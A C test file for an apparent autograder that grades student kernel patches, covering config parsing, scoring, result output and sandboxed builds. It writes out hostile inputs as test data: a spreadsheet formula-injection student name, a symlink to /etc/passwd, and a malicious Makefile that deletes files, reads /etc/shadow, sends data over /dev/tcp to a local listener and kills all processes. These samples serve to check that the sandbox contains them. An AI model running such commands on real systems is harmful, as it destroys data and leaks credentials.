/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * Grading: what a year's file says, how marks become points, what is written; and what a foreign
 * Makefile can do. That one is run on a tree of a few lines, and with a program in eptlab's place.
 */
#include <jansson.h>
#include <libxml/parser.h>
#include <netinet/in.h>
#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>

#include "base/each.h"
#include "grade/one.h"
#include "record/record.h"
#include "tests/lab.h"
#include "tests/test.h"

/* ---- Settings ---- */

static struct grade_settings *load(const char *folder, const char *text, GError **error)
{
	g_autofree char *path = g_build_filename(folder, "grade.conf", NULL);

	assert_true(g_file_set_contents(path, text, -1, NULL));
	return grade_settings_load(path, error);
}

TEST(the_file_that_is_shipped_is_right)
{
	g_autoptr(GError) error = NULL;
	g_autoptr(struct_grade_settings) settings =
		grade_settings_load("configs/grade/assignment.conf", &error);
	double sum = 0;

	assert_no_error(error);
	each_value (const struct grade_points, one, settings->points)
		sum += one->points;
	assert_true(sum == 100);
	assert_true(settings->sandboxed);
}

#define GRADE                                                                                      \
	"[grade]\nkernel=\nplatform=bochs\nat_once=1\nbuild_seconds=60\nboot_seconds=60\n"         \
	"repository=\n"
#define BWRAP "sandbox=bwrap\n"

TEST_IN_FOLDER(wrong_settings_are_named)
{
	static const struct {
		const char *text, *says;
	} rows[] = {
		{ "nonsense", "cannot be read" },
		{ GRADE BWRAP, "no [points]" },
		{ GRADE BWRAP "[points]\nbounds=ten\n", "bounds must be a number" },
		{ GRADE BWRAP "[points]\nbounds=-1\n", "bounds must be a number" },
		{ GRADE BWRAP "[points]\nbounds=nan\n", "bounds must be a number" },
		/* Which is no UTF-8. */
		{ GRADE BWRAP "[points]\nbounds=\xff\n", "bounds must be a number" },
		{ GRADE BWRAP "[points]\nbou\x1b[2Jnds=1\n", "bou?[2Jnds" },
		{ "non\vsense", "line \xe2\x80\x9cnon?sense\xe2\x80\x9d" },
		{ GRADE "sandbox=soap\n[points]\nbounds=1\n", "bwrap or none" },
		{ GRADE BWRAP "colour=red\n[points]\nbounds=1\n", "no such key" },
		{ GRADE BWRAP "[marks]\nbounds=1\n", "[marks]" },
		{ GRADE BWRAP "platform=local\n[points]\nbounds=1\n", "foreign modules" },
		{ GRADE BWRAP "at_once=many\n[points]\nbounds=1\n", "at_once must be a number" },
		{ "[grade]\nplatform=bochs\n", "kernel must be there" },
	};

	test_each (row, rows) {
		g_autoptr(GError) error = NULL;

		assert_null(load(folder, row->text, &error));
		assert_int_equal(error->code, EPTLAB_ERROR_USAGE);
		assert_says(error->message, row->says);
	}
}

/* ---- Marks ---- */

#define TAP                                                                                        \
	"TAP version 14\n1..5\nok 1 - registers\nnot ok 2 - bounds\n  ---\n  saw: 'it''s 7\x1b'\n" \
	"  expected: 'a count'\n  why: 'bounds'\n  ...\nok 3 - dose-hlt-ept\nnot ok 4 - "          \
	"dose-io-ept\nok 5 - two-vms # SKIP not asked for\n"

TEST_IN_FOLDER(marks_become_points)
{
	static const struct {
		double score, most;
		enum grade_verdict verdict;
		const char *says;
	} rows[] = {
		{ 5, 5, GRADE_PASSED, "" },
		{ 0, 10, GRADE_FAILED, "saw: it's 7?\nexpected: a count\nwhy: bounds" },
		{ 10, 20, GRADE_FAILED, "dose-io-ept: not ok\n1 of 2 are ok" },
		{ 0, 5, GRADE_NOT_TRIED, "not asked for" },
		{ 0, 1, GRADE_NOT_TRIED, "" },
	};
	g_autoptr(GArray) marks = grade_marks_new();
	g_autoptr(struct_grade_settings) settings =
		load(folder,
		     GRADE BWRAP "[points]\nregisters=5\nbounds=10\ndose-*=20\ntwo-vms=5\nnone=1\n",
		     NULL);
	g_autoptr(GArray) tests = NULL;

	assert_true(grade_marks_parse(marks, TAP));
	tests = grade_tests_of(marks, settings);
	assert_int_equal(tests->len, G_N_ELEMENTS(rows));
	for (size_t i = 0; i < G_N_ELEMENTS(rows); i++) {
		const struct grade_test *test = &g_array_index(tests, struct grade_test, i);

		assert_true(test->score == rows[i].score);
		assert_true(test->most == rows[i].most);
		assert_int_equal(test->verdict, rows[i].verdict);
		assert_says(test->said, rows[i].says);
	}
	assert_true(grade_score(tests) == 15 && grade_most(tests) == 41);
}

TEST(marks_that_were_cut_off_are_not_whole)
{
	static const char *const rows[] = { "", "TAP version 14\n", "ok 1 - bounds\n",
					    "1..2\nok 1 - bounds\n", "1..0\n" };

	test_each (row, rows) {
		g_autoptr(GArray) marks = grade_marks_new();

		assert_false(grade_marks_parse(marks, *row));
	}
}

/* ---- What is written ---- */

static struct grade_result *make_result(const char *name)
{
	struct grade_result *result = grade_result_new(name);
	const struct grade_test tests[] = {
		{ g_strdup("bounds"), GRADE_FAILED, 2.5, 10, g_strdup("saw: <7> & \"8\"\nso") },
		{ g_strdup("registers"), GRADE_PASSED, 5, 5, g_strdup("") },
		{ g_strdup("two-vms"), GRADE_NOT_TRIED, 0, 5, g_strdup("") },
	};

	g_array_append_vals(result->tests, tests, G_N_ELEMENTS(tests));
	record_set_string(&result->summary, "1 marks are not ok");
	record_set_string(&result->remarks, "with fuzz");
	record_set_string(&result->digest, "d1");
	result->seconds = 12.5;
	return result;
}

static char *file_in(const char *folder, const char *name)
{
	g_autofree char *path = g_build_filename(folder, name, NULL);
	char *text = NULL;

	assert_true(g_file_get_contents(path, &text, NULL, NULL));
	return text;
}

TEST_IN_FOLDER(gradescope_reads_results)
{
	g_autoptr(struct_grade_result) result = make_result("ada");
	g_autofree char *path = g_build_filename(folder, "results.json", NULL);
	const char *statuses[] = { "failed", "passed", "failed" };
	json_t *root, *tests;

	assert_true(grade_result_store(result, folder, NULL));
	root = json_load_file(path, JSON_REJECT_DUPLICATES, NULL);
	assert_true(json_number_value(json_object_get(root, "score")) == 7.5);
	assert_true(json_number_value(json_object_get(root, "execution_time")) == 12.5);
	assert_string_equal(json_string_value(json_object_get(root, "output")),
			    "1 marks are not ok\nwith fuzz");
	tests = json_object_get(root, "tests");
	assert_int_equal(json_array_size(tests), G_N_ELEMENTS(statuses));
	for (size_t i = 0; i < G_N_ELEMENTS(statuses); i++) {
		const json_t *test = json_array_get(tests, i);

		assert_string_equal(json_string_value(json_object_get(test, "status")),
				    statuses[i]);
		assert_string_equal(json_string_value(json_object_get(test, "output_format")),
				    "text");
		assert_string_equal(json_string_value(json_object_get(test, "visibility")),
				    "visible");
		assert_true(json_is_string(json_object_get(test, "output")));
		assert_true(json_is_number(json_object_get(test, "max_score")));
	}
	json_decref(root);
}

TEST_IN_FOLDER(junit_and_tap_say_the_same)
{
	g_autoptr(struct_grade_result) result = make_result("ada");
	g_autofree char *path = g_build_filename(folder, "junit.xml", NULL);
	g_autofree char *tap = NULL;
	xmlDocPtr junit;
	xmlChar *failures, *skipped;

	assert_true(grade_result_store(result, folder, NULL));
	junit = xmlReadFile(path, NULL, XML_PARSE_NONET);
	assert_non_null(junit);
	failures = xmlGetProp(xmlDocGetRootElement(junit), (const xmlChar *)"failures");
	skipped = xmlGetProp(xmlDocGetRootElement(junit), (const xmlChar *)"skipped");
	assert_string_equal((const char *)failures, "1");
	assert_string_equal((const char *)skipped, "1");
	xmlFree(failures);
	xmlFree(skipped);
	xmlFreeDoc(junit);
	tap = file_in(folder, "marks.tap");
	assert_begins(tap, "TAP version 14\n1..3\nnot ok 1 - bounds\n# 2.5 of 10 points\n"
			   "# saw: <7> & \"8\"\n# so\nok 2 - registers\n");
	assert_says(tap, "ok 3 - two-vms # SKIP not tried\n");
}

TEST_IN_FOLDER(what_is_done_is_done_until_something_changes)
{
	g_autoptr(struct_grade_result) result = make_result("ada");
	g_autoptr(struct_grade_result) same = NULL;
	g_autoptr(GPtrArray) all = g_ptr_array_new();
	g_autofree char *before = NULL;
	g_autofree char *after = NULL;

	assert_null(grade_result_load(folder, "ada", "d1"));
	assert_true(grade_result_store(result, folder, NULL));
	assert_null(grade_result_load(folder, "ada", "d2"));
	same = grade_result_load(folder, "ada", "d1");
	assert_non_null(same);
	g_ptr_array_add(all, result);
	before = grade_csv(all);
	all->pdata[0] = same;
	after = grade_csv(all);
	assert_string_equal(before, after);
	assert_string_equal(before, "name,score,most,seconds,\"bounds\",\"registers\",\"two-vms\","
				    "summary\r\n\"ada\",7.5,20,12.5,2.5,5,0,"
				    "\"1 marks are not ok\"\r\n");
}

/* A spreadsheet must not run what a student is called. */
TEST(no_name_is_a_formula)
{
	g_autoptr(struct_grade_result) result = make_result("=cmd|' /C calc'!\"A0\"");
	g_autoptr(GPtrArray) all = g_ptr_array_new();
	g_autofree char *csv = NULL;

	g_ptr_array_add(all, result);
	csv = grade_csv(all);
	assert_says(csv, "\n\"'=cmd|' /C calc'!\"\"A0\"\"\",");
}

/* ---- Submissions ---- */

/* A tree in which "building" takes nothing, and runs what arch/x86/kvm/Makefile says. */
#define MAKE_TREE                                                                                  \
	"set -e; cd '%s'; mkdir -p tree/source/arch/x86/kvm/vmx tree/l1 out; cd tree/source; "     \
	"printf 'VERSION = 6\\nPATCHLEVEL = 1\\nSUBLEVEL = 1\\ninclude arch/x86/kvm/Makefile\\n"   \
	"%%%%.ko: arch/x86/kvm/vmx/vmx.c\\n\\tmkdir -p $(O)/$(@D)\\n"                              \
	"\\tgcc -c -o $(O)/$@ -x c $<\\n' >Makefile; printf '# nothing\\n' "                       \
	">arch/x86/kvm/Makefile; "                                                                 \
	"printf 'int one;\\nint two;\\nint three;\\nint four;\\nint five;\\nint six;\\nint "       \
	"seven;\\n' "                                                                              \
	">arch/x86/kvm/vmx/vmx.c; : >../l1/used; cd ..; "                                          \
	"find . -exec touch -d '1 hour ago' {} +; tar -cf ../tree.tar source l1"
/* In eptlab's place: all is right with what boots, and with what is counted. */
#define MAKE_PROGRAM                                                                               \
	"cat >'%s/program' <<'end'\n#!/bin/sh\ncase $1 in\n"                                       \
	"conform) printf 'TAP version 14\\n1..1\\nok 1 - bounds\\n' ;;\n"                          \
	"check) echo '{\"verdict\": \"sound\", \"headline\": \"fine\"}' ;;\nesac\nend\n"           \
	"chmod +x '%s/program'"

#define POINTS "[points]\napplies=1\nclean=1\nbuilds=1\nbounds=1\nreadme=1\n"

/* Grade the submission in folder/name; the caller frees the result. */
static struct grade_result *grade_with(const char *folder, const char *name, bool namespaces)
{
	g_autofree char *tree = g_build_filename(folder, "tree.tar", NULL);
	g_autofree char *scripts = g_canonicalize_filename("kernel/grade", NULL);
	g_autofree char *program = g_build_filename(folder, "program", NULL);
	g_autofree char *path = g_build_filename(folder, name, NULL);
	g_autofree char *out = g_build_filename(folder, "out", NULL);
	const struct sandbox sandbox = { namespaces, scripts, tree, NULL };
	g_autoptr(GCancellable) cancellable = g_cancellable_new();
	g_autoptr(struct_grade_settings) settings = load(folder, GRADE BWRAP POINTS, NULL);
	const struct grading grading = { .settings = settings,
					 .sandbox = &sandbox,
					 .program = program,
					 .jobs = 2,
					 .cancellable = cancellable };
	g_autoptr(GPtrArray) submissions = submissions_find(path, true, NULL);
	g_autoptr(GError) error = NULL;
	struct grade_result *result;

	settings->build_seconds = 10;
	assert_non_null(submissions);
	if (namespaces && !sandbox_try(&sandbox, &error)) {
		printf("# a sandbox is skipped: %s\n", error->message);
		skip();
	}
	lab_shell("rm -rf '%s' && mkdir '%s'", out, out);
	result = grade_one(&grading, submissions->pdata[0], out, NULL, &error);
	assert_no_error(error);
	return result;
}

static void make_class(const char *folder)
{
	lab_shell(MAKE_TREE, folder);
	lab_shell(MAKE_PROGRAM, folder, folder);
}

#define PATCH(number, before, after)                                                               \
	"--- a/arch/x86/kvm/vmx/vmx.c\n+++ b/arch/x86/kvm/vmx/vmx.c\n@@ -" number ",3 +" number    \
	",3 @@\n " before "\n-int two;\n+int two = 2;\n " after "\n"

TEST_IN_FOLDER(each_kind_of_submission_is_taken)
{
	static const struct {
		const char *make; /* in bash, in the folder of the submission */
		double score;	  /* of applies, clean, builds, bounds, readme */
		const char *summary;
	} rows[] = {
		{ "printf '%s' '" PATCH("1", "int one;", "int three;") "' >a.patch", 4,
		  "all marks are ok" },
		{ "echo '48 7' >README.md; printf '%s' '" PATCH("1", "int one;",
								"int three;") "' >a.diff",
		  5, "all marks are ok" },
		/* What has moved is no fuzz; another line beside it is. */
		{ "printf '%s' '" PATCH("3", "int one;", "int three;") "' >a.patch", 4,
		  "all marks are ok" },
		{ "printf '%s' '" PATCH("1", "int zero;", "int three;") "' >a.patch", 3,
		  "all marks are ok" },
		{ "printf '%s' '" PATCH("1", "long one;",
					"long three;") "' | sed 's/int two;/int twelve;/' >a.patch",
		  0, "does not apply" },
		/* Made where the files are, and with the line ends of Windows. */
		{ "printf '%s' '" PATCH("1", "int one;",
					"int three;") "' | sed 's,arch/x86/kvm/vmx/,,' >a.patch",
		  4, "all marks are ok" },
		{ "printf '%s' '" PATCH("1", "int one;",
					"int three;") "' | sed 's,$,\\r,' >a.patch",
		  4, "all marks are ok" },
		{ "printf '%s' '" PATCH("1", "int one;",
					"int three;") "' | sed 's/= 2;/= ;/' >a.patch",
		  2, "does not compile" },
		{ "mkdir -p linux/arch/x86/kvm/vmx; echo 'int ten;' >linux/arch/x86/kvm/vmx/vmx.c",
		  4, "all marks are ok" },
		{ "mkdir vmx; echo 'int ten;' >vmx/vmx.c", 4, "all marks are ok" },
		{ "mkdir -p arch/x86/kvm; cp -r ../tree/source/* .; echo 'int ten;' "
		  ">arch/x86/kvm/vmx/vmx.c",
		  4, "all marks are ok" },
		{ "cp -r ../tree/source/* .; sed -i 's/VERSION = 6/VERSION = 5/' Makefile", 0,
		  "does not apply" },
		{ "git() { command git -c user.name=x -c user.email=x@x \"$@\"; }; "
		  "git init -q repo; cd repo; cp -r ../../tree/source/* .; git add -f .; "
		  "git commit -qm base; echo 'int ten;' >arch/x86/kvm/vmx/vmx.c; "
		  "git commit -qam mine; git bundle create -q ../a.bundle --all HEAD; cd ..; rm "
		  "-rf repo",
		  4, "all marks are ok" },
		{ "git() { command git -c user.name=x -c user.email=x@x \"$@\"; }; "
		  "git init -q repo; cd repo; cp -r ../../tree/source/* .; git add -f .; "
		  "git commit -qm base; echo 'int ten;' >arch/x86/kvm/vmx/vmx.c; git commit -qam "
		  "mine; "
		  "git bundle create -q ../a.bundle HEAD~1..HEAD; cd ..; rm -rf repo",
		  0, "there is nothing to apply" },
		{ "echo hello >thesis.txt", 0, "there is nothing to apply" },
		{ "echo nonsense >a.bundle", 0, "there is nothing to apply" },
		/* What it links to is not read. */
		{ "ln -s /etc/passwd README.md; ln -s ../tree.tar a.patch", 0,
		  "there is nothing to apply" },
	};

	make_class(folder);
	test_each (row, rows) {
		g_autoptr(struct_grade_result) result = NULL;

		lab_shell("cd '%s' && rm -rf one && mkdir one && cd one && %s", folder, row->make);
		result = grade_with(folder, "one", true);
		if (grade_score(result->tests) != row->score ||
		    !g_str_equal(result->summary, row->summary))
			fail_msg("%s\n%g points instead of %g: %s\n%s", row->make,
				 grade_score(result->tests), row->score, result->summary,
				 result->remarks);
	}
}

/* ---- What a Makefile must not do ---- */

/*
 * It would leave a file on this machine, change what is beside it, read what is not its own, call
 * for help, stay alive, fill the disk, and end its judges. Each line for itself: what one cannot do
 * keeps none from the next. The first %s is the class's folder, which it must not reach.
 */
#define ATTACK                                                                                     \
	"mkdir -p '%s/evil/arch/x86/kvm'; cat >'%s/evil/arch/x86/kvm/Makefile' <<'end'\n"          \
	"A := $(shell echo got >%s/got)\n"                                                         \
	"B := $(shell rm -rf %s/tree.tar %s/program /submission/*)\n"                              \
	"C := $(shell cat %s/secret /etc/shadow /root/secret >&2)\n"                               \
	"D := $(shell bash -c 'echo got >/dev/tcp/127.0.0.1/%u' 2>/dev/null)\n"                    \
	"E := $(shell echo got >/out/results.json; echo got >/grade/build; echo got >/usr/got)\n"  \
	"F := $(shell setsid sleep 4321 >/dev/null 2>&1 &)\n"                                      \
	"G := $(shell yes flood | head -c 3000000 >&2)\n"                                          \
	"H := $(shell head -c 2000000000 /dev/zero >/mnt/zero; rm -f /mnt/zero)\n"                 \
	"I := $(shell kill -9 -1)\n"                                                               \
	"end\n"

/* A socket that waits for calls on this machine; *port is its number. */
static int listen_anywhere(guint *port)
{
	struct sockaddr_in address = { .sin_family = AF_INET,
				       .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	socklen_t length = sizeof(address);
	const int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);

	assert_true(fd >= 0);
	assert_int_equal(bind(fd, (struct sockaddr *)&address, length), 0);
	assert_int_equal(listen(fd, 1), 0);
	assert_int_equal(getsockname(fd, (struct sockaddr *)&address, &length), 0);
	*port = ntohs(address.sin_port);
	return fd;
}

TEST_IN_FOLDER(a_makefile_that_attacks_is_a_mark)
{
	g_autoptr(struct_grade_result) result = NULL;
	g_autofree char *log = NULL;
	guint port;
	const int socket = listen_anywhere(&port);

	make_class(folder);
	lab_shell("echo secret-word >'%s/secret'; chmod 644 '%s/secret'; chmod 755 '%s'", folder,
		  folder, folder);
	lab_shell(ATTACK, folder, folder, folder, folder, folder, folder, port);
	result = grade_with(folder, "evil", true);
	assert_true(grade_score(result->tests) < 5);
	assert_int_equal(accept(socket, NULL, NULL), -1);
	close(socket);
	log = file_in(folder, "out/build.log");
	assert_null(strstr(log, "secret-word"));
	assert_true(strlen(log) <= 1 << 20);
	assert_int_equal(access("/usr/got", F_OK), -1);
	lab_shell("cd '%s' && test ! -e got && test -e tree.tar && test -e program && "
		  "test -e evil/arch/x86/kvm/Makefile && test ! -e out/results.json && "
		  "! pgrep -f '[s]leep 4321' && ! grep -q got \"$OLDPWD/kernel/grade/build\"",
		  folder);
}

TEST_IN_FOLDER(a_build_that_does_not_end_is_a_mark)
{
	g_autoptr(struct_grade_result) result = NULL;

	make_class(folder);
	lab_shell("mkdir -p '%s/slow/arch/x86/kvm'; "
		  "echo 'A := $(shell sleep 5432)' >'%s/slow/arch/x86/kvm/Makefile'",
		  folder, folder);
	result = grade_with(folder, "slow", true);
	assert_string_equal(result->summary, "the build does not end");
	lab_shell("! pgrep -f '[s]leep 5432'");
}

/* Without namespaces it is nobody, and has a folder of its own. */
TEST_IN_FOLDER(without_namespaces_it_is_nobody)
{
	g_autoptr(struct_grade_result) result = NULL;

	if (geteuid() != 0) {
		printf("# nobody is skipped: only root can become another user\n");
		skip();
	}
	make_class(folder);
	lab_shell("mkdir -p '%s/one/vmx'; echo 'int ten;' >'%s/one/vmx/vmx.c'; "
		  "echo 'A := $(shell echo got >%s/got; id -un >&2)' >'%s/one/Makefile'",
		  folder, folder, folder, folder);
	result = grade_with(folder, "one", false);
	assert_true(grade_score(result->tests) == 4);
	lab_shell("test ! -e '%s/got' && grep -qx nobody '%s/out/build.log'", folder, folder);
}
